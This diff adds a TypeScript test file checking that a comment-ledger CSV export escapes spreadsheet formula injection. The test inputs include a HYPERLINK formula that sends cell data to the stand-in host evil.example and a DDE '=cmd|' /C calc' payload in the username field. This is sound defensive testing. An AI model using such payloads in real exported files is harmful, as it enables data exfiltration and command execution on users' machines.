@@ -1,0 +1,50 @@
+import type { Ledger } from "@comment-dm/core"
+import { assert, describe, it } from "@effect/vitest"
+import * as Status from "../src/Status.js"
+
+const entry = (fields: Partial<Ledger.LedgerEntry>): Ledger.LedgerEntry => ({
+  campaign: "c",
+  platform: "instagram",
+  userId: "1",
+  username: "anna",
+  postId: "p",
+  commentId: "k",
+  commentText: "guide",
+  commentTime: undefined,
+  keyword: "guide",
+  state: "sent",
+  reason: undefined,
+  message: "hi",
+  messageId: "m",
+  attempts: 1,
+  claimedAt: undefined,
+  claimedBy: undefined,
+  leaseUntil: undefined,
+  settledAt: undefined,
+  firstSeenAt: new Date(0),
+  updatedAt: new Date(0),
+  ...fields
+})
+
+/** The comment_text cell (the 15th) of a row whose other cells hold no comma or quote. */
+const commentCell = (text: string) => Status.csvRow(entry({ commentText: text })).split(",").slice(14, -1).join(",")
+
+describe("Status.csvRow", () => {
+  it("prefixes a cell that a spreadsheet would run as a formula with a single quote, and quotes it", () => {
+    for (const risky of ["=1+2", "+1", "-1", "@SUM(A1)", "\tguide", "\rguide"]) {
+      assert.strictEqual(commentCell(risky), `"'${risky}"`)
+    }
+    assert.strictEqual(
+      commentCell(`=HYPERLINK("http://evil.example/?d="&A1,"guide")`),
+      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""guide"")"`
+    )
+    assert.include(Status.csvRow(entry({ username: "=cmd|' /C calc'!A0" })), `,"'=cmd|' /C calc'!A0",`)
+  })
+
+  it("leaves other cells as they are, quoting only those with a quote, comma or line break", () => {
+    assert.strictEqual(commentCell("guide = yes"), "guide = yes")
+    assert.strictEqual(commentCell("a, b"), `"a, b"`)
+    assert.strictEqual(commentCell("say \"hi\"\nthen"), `"say ""hi""\nthen"`)
+    assert.strictEqual(commentCell(""), "")
+  })
+})
